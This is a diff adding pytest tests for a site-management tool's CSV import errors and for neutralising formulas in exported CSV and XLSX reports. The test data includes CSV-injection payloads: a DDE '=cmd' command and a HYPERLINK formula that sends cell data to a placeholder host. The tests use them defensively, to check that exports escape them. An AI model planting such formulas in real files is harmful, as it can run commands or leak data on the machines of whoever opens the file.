@@ -381,3 +381,73 @@ def test_corpus_through_broker_and_collector_stores_good_exactly_and_dead_letter
     # memory stays bounded: repeating the corpus does not grow the collector
     assert rss[-1] < 400 * 1024, rss
     assert rss[-1] - rss[1] < 32 * 1024, rss
+
+
+# -- CSV imports and exported reports ---------------------------------------------------------
+
+CSV_CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "csv"
+
+
+@pytest.fixture()
+def twin_env(tmp_path, monkeypatch):
+    monkeypatch.setenv("SITETWIN_TWIN__URL", f"sqlite:///{tmp_path / 'twin.sqlite'}")
+    monkeypatch.setenv("SITETWIN_SERVICES__STATE_DIR", str(tmp_path / "state"))
+    return tmp_path
+
+
+def _sites(capsys) -> list[dict]:
+    from sitetwin.cli import main
+
+    assert main(["sites", "list", "--json"]) == 0
+    return orjson.loads(capsys.readouterr().out)
+
+
+@pytest.mark.parametrize("name, message", [
+    ("sites_latin1.csv", "not UTF-8"),
+    ("sites_utf16.csv", "not UTF-8"),
+    ("sites_empty.csv", "header row is required"),
+    ("sites_missing_columns.csv", "missing required column(s) kind, supply, region, customer_class"),
+    ("sites_unterminated_quote.csv", "line 3"),
+    ("sites_bad_values.csv", "5 invalid row(s), nothing imported"),
+])
+def test_a_hostile_csv_imports_nothing_and_says_why(name, message, twin_env, capsys):
+    from sitetwin.cli import main
+
+    assert main(["sites", "import", str(CSV_CORPUS / name)]) == 1
+    err = capsys.readouterr().err
+    assert message in err and "Traceback" not in err
+    assert [ln for ln in err.splitlines() if ln.startswith("sitetwin: error:")]
+    assert _sites(capsys) == []
+
+
+def test_formula_strings_are_stored_as_given_and_neutralised_in_exported_reports(twin_env, capsys):
+    from openpyxl import load_workbook
+
+    from sitetwin.cli import main
+
+    assert main(["sites", "import", str(CSV_CORPUS / "sites_formula.csv")]) == 0
+    capsys.readouterr()
+    by_id = {s["site_id"]: s for s in _sites(capsys)}
+    assert by_id["F0001"]["county"] == "=cmd|' /C calc'!A0"  # data is kept exactly
+    assert by_id["F0004"]["name"] == "=1+1"  # text cells are stripped of surrounding blanks
+    counties = {"=cmd|' /C calc'!A0", "@SUM(A1:A9)", '=HYPERLINK("http://x.example/?leak="&A1,"click")',
+                "Xinjin"}
+    for suffix in ("csv", "xlsx"):
+        out = twin_env / f"progress.{suffix}"
+        assert main(["report", "progress", "--year", "2026", "--out", str(out), "--json"]) == 0
+        capsys.readouterr()
+        if suffix == "csv":
+            import csv
+
+            with out.open(encoding="utf-8-sig", newline="") as fh:
+                cells = [row[0] for row in csv.reader(fh)][1:]
+            types = ["s"] * len(cells)
+        else:
+            sheet = load_workbook(out).active
+            column = [c for c in sheet.iter_cols(min_col=1, max_col=1)][0][1:]
+            cells, types = [c.value for c in column], [c.data_type for c in column]
+        assert "f" not in types  # no formula cell in the workbook
+        for county in counties:
+            shown = "'" + county if county[0] in "=+-@\t\r" else county
+            assert shown in cells, (suffix, county, cells)
+        assert not any(str(c).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
